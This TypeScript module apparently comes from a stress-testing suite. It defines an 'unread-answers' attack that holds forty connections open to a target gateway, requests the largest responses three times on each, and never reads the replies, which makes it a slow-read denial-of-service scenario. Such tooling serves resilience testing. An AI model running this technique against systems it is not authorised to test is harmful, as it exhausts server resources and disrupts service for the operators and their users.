import type { Attack } from '../attack.js';
import { fullQuestion } from '../full-question.js';
import { holdConnections } from '../held-connections.js';
import { headOf, keyOf } from '../http-head.js';

const CONNECTIONS = 40;
const ASKED_AT_ONCE = 3;

export const unreadAnswers: Attack = {
  name: 'unread-answers',
  story: 'Forty readers ask for the largest answers that there are, filled, and never read a byte.',
  door: 'gateway',
  inflict: ({ target, pick, over }) =>
    holdConnections(
      {
        at: [target.gateway],
        connections: CONNECTIONS,
        reads: false,
        begin: (socket) => {
          for (let asked = 0; asked < ASKED_AT_ONCE; asked++)
            socket.write(headOf(target.gateway, `GET ${fullQuestion(pick)}`, keyOf(target)));
        },
      },
      over,
    ),
};
